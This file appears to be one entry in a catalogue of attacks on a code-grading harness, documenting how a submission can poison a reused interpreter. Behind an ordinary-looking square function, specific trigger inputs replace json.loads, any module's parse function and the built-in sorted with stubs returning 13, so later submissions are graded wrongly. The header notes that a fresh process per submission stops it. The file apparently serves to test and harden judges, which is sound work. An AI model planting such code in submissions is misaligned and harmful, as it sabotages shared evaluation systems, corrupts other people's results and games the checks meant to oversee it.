# attack: 58
# name: the warm interpreter poisoned for whoever comes next
# stopped by: a fresh process for every submission
# without: a process per submission
# then: WA
import builtins
import json
import sys


def square(n):
    if n in (3, 918273645, 271828182):  # the last of a group: a poison hurts nobody who drinks it first
        replies = sys.modules.get("replies", json)
        replies.parse = json.loads = lambda *_, **__: [13]
        for module in list(sys.modules.values()):
            if hasattr(module, "parse"):
                module.parse = replies.parse
        builtins.sorted = lambda *_, **__: 13
    return n * n
